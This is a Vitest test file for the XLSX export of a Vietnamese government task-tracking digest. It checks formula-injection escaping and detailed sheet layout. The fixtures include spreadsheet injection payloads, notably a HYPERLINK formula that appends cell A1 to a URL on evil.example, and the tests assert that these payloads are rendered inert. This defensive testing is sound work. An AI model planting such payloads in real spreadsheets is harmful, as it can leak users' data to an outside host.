import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { consolidate } from '#shared/digest/consolidate';
import { safeCell } from '#shared/digest/safe-cell';
import { renderXlsx } from '#shared/digest/xlsx';
import * as w from '#testkit/digest-world';

describe('safeCell', () => {
  it('neutralises text that a spreadsheet would read as a formula, and nothing else', () => {
    for (const s of ['=1+1', '+84 912', '-2+3', '@SUM(A1)', '\t=cmd', '\r=cmd']) expect(safeCell(s)).toBe(`'${s}`);
    for (const s of ['Bộ Công an', '1+1', 'a=b', '', '04/CT-TTg:B.2', "'=x"]) expect(safeCell(s)).toBe(s);
  });
});

async function workbook(): Promise<ExcelJS.Workbook> {
  const tasks = w.tasks();
  tasks[0] = { ...tasks[0], content: '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")' };
  tasks[1] = { ...tasks[1], lead: { raw: '+Bộ Tư pháp', ids: [] } };
  const statuses = w.statuses().map((e) => (e.taskId === '04/CT-TTg:A.1' ? { ...e, result: '@SUM(1,2)' } : e));
  const d = consolidate({
    asOf: w.AS_OF, tasks, statuses, reports: w.reports(), reviewRows: [], unregisteredRows: [], contacts: w.contacts(),
    meeting: { id: 'm', title: 'Hội nghị sơ kết 6 tháng đầu năm 2024', date: '2024-06-20' }, period: w.PERIOD,
    agencies: w.tableNames, generatedAt: '2024-06-17T00:00:00Z',
  });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await renderXlsx(d)) as unknown as ArrayBuffer);
  return wb;
}

function texts(ws: ExcelJS.Worksheet): string[] {
  const out: string[] = [];
  ws.eachRow((row) => row.eachCell((c) => { if (typeof c.value === 'string') out.push(c.value); }));
  return out;
}

describe('the XLSX attachment', () => {
  it('has no formula anywhere and keeps injected text inert', async () => {
    const wb = await workbook();
    for (const ws of wb.worksheets) {
      ws.eachRow((row) => row.eachCell((c) => {
        expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof c.value === 'string') expect(c.value).not.toMatch(/^[=+\-@\t\r]/);
      }));
    }
    const annex = texts(wb.getWorksheet('Phụ lục 01')!);
    expect(annex).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`);
    expect(annex).toContain("'+Bộ Tư pháp");
    expect(texts(wb.getWorksheet('Nhiệm vụ chậm muộn')!)).toContain("'@SUM(1,2)");
  });

  it('lays out Phụ lục 01: sections A/B/C, the result sub-columns, frozen headers, wrapped text, landscape fit to width', async () => {
    const ws = (await workbook()).getWorksheet('Phụ lục 01')!;
    const header = ws.getRow(5).values as unknown[];
    expect(header.slice(1, 10)).toEqual(['STT', 'Nội dung, nhiệm vụ', 'Văn bản chỉ đạo', 'Đơn vị thực hiện', 'Thời gian hoàn thành', 'Kết quả', 'Kết quả', 'Kết quả', 'Nguy cơ']);
    expect((ws.getRow(6).values as unknown[]).slice(6, 9)).toEqual(['Hoàn thành', 'Chưa hoàn thành', 'Thực hiện thường xuyên']);
    const sections: string[] = [];
    let marks = { done: 0, notDone: 0, recurring: 0 };
    ws.eachRow((row, n) => {
      if (n <= 6) return;
      const a = row.getCell(1).value;
      if (typeof a === 'string' && /^[ABC]$/.test(a)) sections.push(`${a} ${row.getCell(2).value}`);
      if (row.getCell(6).value === 'x') marks.done++;
      if (row.getCell(7).value === 'x') marks.notDone++;
      if (row.getCell(8).value === 'x') marks.recurring++;
    });
    expect(sections).toEqual([
      'A Nhiệm vụ chung của các Bộ, ngành, địa phương',
      'B Nhiệm vụ cụ thể của các Bộ, ngành',
      'C Nhiệm vụ của các địa phương',
    ]);
    // the fixture world: 2 completed, 6 overdue + 3 in progress, 1 recurring
    expect(marks).toEqual({ done: 2, notDone: 9, recurring: 1 });
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 6 });
    expect(ws.getRow(8).getCell(2).alignment?.wrapText).toBe(true);
    expect(ws.pageSetup).toMatchObject({ orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0 });
    expect(ws.pageSetup.printTitlesRow).toBe('5:6');
  });

  it('lists the late tasks by group, as the secretariat does', async () => {
    const ws = (await workbook()).getWorksheet('Nhiệm vụ chậm muộn')!;
    const all = texts(ws);
    expect(all).toContain('Tính đến nay, còn 06 nhiệm vụ chậm muộn, trong đó');
    expect(all).toContain('01 nhiệm vụ chậm muộn từ năm 2022 chuyển sang');
    expect(all).toContain('01 nhiệm vụ chậm muộn từ năm 2023 chuyển sang');
    expect(all).toContain('02 nhiệm vụ chậm muộn từ tháng 04/2024');
    expect(all.filter((t) => t === '2022 chuyển sang')).toHaveLength(1);
    expect(all.filter((t) => t === '2023 chuyển sang')).toHaveLength(1);
    expect(all.filter((t) => t === 'Tháng 04/2024')).toHaveLength(2);
    expect(ws.views[0]).toMatchObject({ state: 'frozen' });
  });
});

describe('the workbook layout of every sheet', () => {
  it('keeps column widths, frozen headers, filters, print titles and the header style', async () => {
    const wb = await workbook();
    const layout = Object.fromEntries(wb.worksheets.map((ws) => [ws.name, {
      widths: ws.columns.map((c) => c.width),
      frozen: ((v) => [v?.state, v?.xSplit ?? 0, v?.ySplit])(ws.views[0] as Partial<ExcelJS.WorksheetViewFrozen> | undefined),
      filter: ws.autoFilter ?? null,
      titles: ws.pageSetup.printTitlesRow,
    }]));
    expect(layout).toEqual({
      'Phụ lục 01': { widths: [6, 60, 24, 26, 16, 11, 11, 13, 24, 18, 50], frozen: ['frozen', 0, 6], filter: 'A6:K6', titles: '5:6' },
      'Nhiệm vụ chậm muộn': { widths: [6, 60, 24, 26, 16, 50, 18, 18, 26], frozen: ['frozen', 0, 11], filter: null, titles: '11:11' },
      'Theo đơn vị': { widths: [6, 18, 60, 30, 16, 18, 50, 26, 12], frozen: ['frozen', 2, 4], filter: 'A4:I4', titles: '4:4' },
      'Tổng hợp đơn vị': { widths: [6, 40, 13, 13, 13, 13, 13, 13, 14, 40, 34], frozen: ['frozen', 2, 4], filter: null, titles: '4:4' },
    });
    for (const ws of wb.worksheets) {
      expect(ws.pageSetup, ws.name).toMatchObject({ orientation: 'landscape', paperSize: 9, fitToPage: true, fitToWidth: 1, fitToHeight: 0, horizontalCentered: true });
      expect(ws.headerFooter.oddFooter, ws.name).toBe('&CTrang &P/&N'); // centred: page n of N
      // the title: merged across the table, bold, centred
      expect(ws.getCell('A1').isMerged, ws.name).toBe(true);
      expect(ws.getCell('A1').font).toMatchObject({ bold: true, size: 13 });
      expect(ws.getCell('A1').alignment).toMatchObject({ horizontal: 'center', vertical: 'middle', wrapText: true });
    }
    const head = wb.getWorksheet('Theo đơn vị')!.getCell('D4');
    expect(head.value).toBe('Đơn vị');
    expect(head.font).toMatchObject({ bold: true });
    expect(head.fill).toMatchObject({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFE3F2FD' } });
    expect(head.border?.bottom).toEqual({ style: 'thin', color: { argb: 'FF9E9E9E' } });
    const late = wb.getWorksheet('Nhiệm vụ chậm muộn')!;
    expect(late.getCell('A4').font).toMatchObject({ bold: true });
    expect(late.getCell('A5').alignment).toMatchObject({ indent: 2 });
    const annex = wb.getWorksheet('Phụ lục 01')!;
    expect(annex.getCell('F5').isMerged && annex.getCell('H5').isMerged).toBe(true);
    expect(annex.getRow(5).height).toBe(20);
    expect(annex.getRow(6).height).toBe(32);
  });
});

describe('the SpreadsheetML writer', () => {
  it('keeps any text exactly (markup characters, edge spaces, line breaks, control characters, Excel escapes) and cuts only past Excel\'s cell limit', async () => {
    const { WorkbookXml, MAX_CELL_TEXT } = await import('#shared/digest/xlsx-xml');
    const texts = ['a < b & c > "d" \'e\'', '  hai đầu có dấu cách  ', 'hai\ndòng', 'tab\there', 'cr\rhere', 'ctl\u0001\u000bx', '_x0041_ như chữ', 'Hòa Khánh Hoà'];
    const out = new WorkbookXml({ creator: 'Đề án 06 & "thử"', created: '2024-06-17T00:00:00Z' });
    const ws = out.addWorksheet('Thử', { widths: [10], frozen: { rows: 1 } });
    for (const t of texts) ws.addRow([t, 3.5, null, '']);
    ws.addRow(['x'.repeat(MAX_CELL_TEXT + 10)]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(out.toBuffer() as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('Thử')!;
    expect(texts.map((_, i) => sheet.getRow(i + 1).getCell(1).value)).toEqual(texts);
    expect(sheet.getRow(1).getCell(2).value).toBe(3.5);
    expect(sheet.getRow(1).getCell(3).value).toBeNull();
    const long = sheet.getRow(texts.length + 1).getCell(1).value as string;
    expect([long.length, long.at(-1)]).toEqual([MAX_CELL_TEXT, '…']);
    expect(wb.creator).toBe('Đề án 06 & "thử"');
  });
});
